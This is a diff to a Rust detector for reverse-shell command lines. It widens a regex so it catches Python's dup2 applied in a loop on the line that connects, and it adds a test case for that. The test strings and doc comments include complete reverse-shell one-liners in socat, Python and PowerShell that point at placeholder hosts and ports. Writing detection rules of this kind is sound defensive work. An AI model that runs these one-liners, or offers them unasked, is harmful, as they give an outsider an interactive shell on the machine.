@@ -16,7 +16,8 @@
 //! - socat joining a TCP address to a shell (`socat tcp:HOST:PORT
 //!   exec:'bash -li',pty`);
 //! - Python duplicating a socket onto standard input or output
-//!   (`os.dup2(s.fileno(), 0)`), or `pty.spawn` on the line that connects;
+//!   (`os.dup2(s.fileno(), 0)`, or in a loop over the descriptors on the
+//!   line that connects), or `pty.spawn` on the line that connects;
 //! - PowerShell's `Net.Sockets.TCPClient` read and run by `iex` on one line.
 //!
 //! Never here: a send of a file to `/dev/tcp` (that is R-RULE-4's
@@ -73,7 +74,7 @@ static PATTERNS: LazyLock<[Regex; 6]> = LazyLock::new(|| {
         // Python: a socket's descriptor duplicated onto standard input or
         // output, or a pty spawned on the line that connects.
         Regex::new(
-            r"dup2\([ \t]*(?:s|so|sock|socket|conn|client|c|sk)[A-Za-z0-9_]*\.fileno\(\)[ \t]*,[ \t]*[012][ \t]*\)|(?-u:\b)connect\(\([^\n]*?pty\.spawn\(",
+            r"dup2\([ \t]*(?:s|so|sock|socket|conn|client|c|sk)[A-Za-z0-9_]*\.fileno\(\)[ \t]*,[ \t]*[012][ \t]*\)|(?-u:\b)connect\(\([^\n]*?pty\.spawn\(|(?-u:\b)connect\(\([^\n]*?dup2\([ \t]*[A-Za-z_][A-Za-z0-9_]*\.fileno\(\)[ \t]*,[ \t]*[A-Za-z_][A-Za-z0-9_]*[ \t]*\)",
         )
         .unwrap(),
         // PowerShell: a TCP client's stream read and run, on one line.
@@ -139,6 +140,7 @@ mod tests {
             "socat tcp:h.example:4443 exec:'bash -li',pty,stderr,setsid",
             "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h.example\",9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
             "    os.dup2(sock.fileno(), 0)",
+            "s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])",
             "$c = New-Object System.Net.Sockets.TCPClient('h.example',443);$s = $c.GetStream(); ... iex $data",
         ] {
             assert!(found(line), "{line}");
